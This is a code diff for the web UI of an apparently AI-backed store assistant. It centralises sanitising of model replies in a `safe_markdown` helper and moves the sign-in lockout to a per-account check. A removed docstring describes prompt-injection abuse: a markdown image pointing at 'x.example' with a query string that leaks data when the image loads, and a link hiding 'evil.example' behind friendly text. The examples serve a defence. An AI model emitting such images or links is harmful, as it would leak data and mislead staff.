@@ -7,8 +7,7 @@ through `escape()`, so a manual or inventory text can never render as a link, im
 
 from __future__ import annotations
 
-import re
-import time
+import math
 from datetime import date
 
 import streamlit as st
@@ -17,6 +16,7 @@ from store_assistant.store.answer_log import MAX_CORRECTION, AnswerLog, answer_l
 from store_assistant.config import Settings, load_settings
 from store_assistant.errors import DataError
 from store_assistant.answering.guard import hold_figures
+from store_assistant.web.markdown import safe_markdown
 from store_assistant.store.inventory import Inventory, inventory_path
 from store_assistant.store.products import money
 from store_assistant.inference.gateway import Gateway
@@ -71,25 +71,16 @@ def escape(text: str) -> str:
     return "".join("\\" + c if c in "\\`*_{}[]()<>#+-.!|~$" else c for c in text)
 
 
-_IMAGE = re.compile(r"!\[([^\]]*)\]\([^)]*\)")
-_LINK = re.compile(r"\[([^\]]+)\]\(\s*<?([^)\s>]*)>?[^)]*\)")
-
-
 def reply_markdown(text: str) -> str:
-    """A model's reply as markdown, minus what an injected instruction could turn on staff.
-
-    Images go ('![](https://x.example/?q=...)' is fetched from anywhere the moment it is shown)
-    and a link keeps its text but shows its address instead of hiding it behind the text:
-    '[Volt support](https://evil.example)' -> 'Volt support (`https://evil.example`)'.
-    Raw HTML is already shown as text by Streamlit.
-    """
-    text = _IMAGE.sub(lambda m: escape(m.group(1)), text)
-    return _LINK.sub(lambda m: f"{m.group(1)} (`{m.group(2)}`)", text)
+    """A model's reply as markdown, minus what an injected instruction could turn on staff:
+    no image of any form (one is fetched from anywhere the moment it is shown) and no link whose
+    address is hidden behind its text (see `web/markdown.py`)."""
+    return safe_markdown(text)
 
 
 def while_streaming(text: str) -> str:
     """Text still being generated, as markdown, its figures held back until the guard has run."""
-    return hold_figures(reply_markdown(text))
+    return safe_markdown(hold_figures(text))
 
 
 def fact_card(sku: str) -> None:
@@ -212,9 +203,6 @@ def model_history(turns: list[dict]) -> list[dict[str, str]]:
 # password check or an OIDC login; a browser cannot write it. Manager pages are not even
 # registered for other sessions (see app.py), and each checks again with `require_manager`.
 
-MAX_ATTEMPTS, LOCKOUT_S = 5, 60
-
-
 def account() -> dict | None:
     """{"name", "role"} of whoever is signed in to this session, or None."""
     if "account" not in st.session_state and oidc_configured() and st.user.is_logged_in:
@@ -249,7 +237,7 @@ def oidc_configured() -> bool:
 
 def account_box(title: str = "Manager sign-in") -> None:
     """The sidebar's sign-in form, or who is signed in with a sign-out button."""
-    from store_assistant.store.accounts import has_manager, verify
+    from store_assistant.store.accounts import has_manager, sign_in
 
     found = account()
     with st.sidebar:
@@ -275,16 +263,14 @@ def account_box(title: str = "Manager sign-in") -> None:
                 password = st.text_input("Password", type="password", key="sign_in_password")
                 if not st.form_submit_button("Sign in"):
                     return
-            failures = st.session_state.setdefault("sign_in_failures", [])
-            now = time.time()
-            failures[:] = [t for t in failures if now - t < LOCKOUT_S]
-            if len(failures) >= MAX_ATTEMPTS:
-                st.error(f"Too many failed attempts. Wait {LOCKOUT_S} s and try again.")
+            attempt = sign_in(cached_settings(), name.strip(), password)
+            if attempt.locked_s:
+                st.error(f"Too many failed attempts for this account. Try again in "
+                         f"{math.ceil(attempt.locked_s / 60)} min, or ask a manager to reset it.")
                 return
-            role = verify(cached_settings(), name.strip(), password)
-            if role is None:
-                failures.append(now)
+            if attempt.role is None:
                 st.error("Wrong account or password.")
                 return
+            role = attempt.role
             st.session_state["account"] = {"name": name.strip(), "role": role}
             st.rerun()
